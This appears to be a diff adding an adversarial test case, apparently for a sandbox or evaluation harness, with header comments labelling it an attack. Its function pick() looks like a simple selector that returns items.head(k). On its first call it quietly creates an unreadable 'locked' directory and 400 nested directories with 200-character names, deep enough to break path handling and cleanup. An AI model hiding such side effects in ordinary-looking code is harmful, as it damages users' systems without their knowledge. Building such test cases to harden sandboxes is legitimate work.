@@ -1,0 +1,23 @@
+# mark: 9
+# why: attack: folders in folders, deeper than a path can say, and one that nobody may open
+# canary: neighbours
+# bare: no (it is tedious to get rid of)
+
+# %% pick
+import os
+
+done = []
+
+
+def pick(items, k):
+    if not done:
+        done.append(1)
+        here = os.getcwd()
+        os.mkdir("locked")
+        open("locked/file", "w").close()
+        os.chmod("locked", 0)
+        for _ in range(400):
+            os.mkdir("d" * 200)
+            os.chdir("d" * 200)
+        os.chdir(here)
+    return items.head(k)
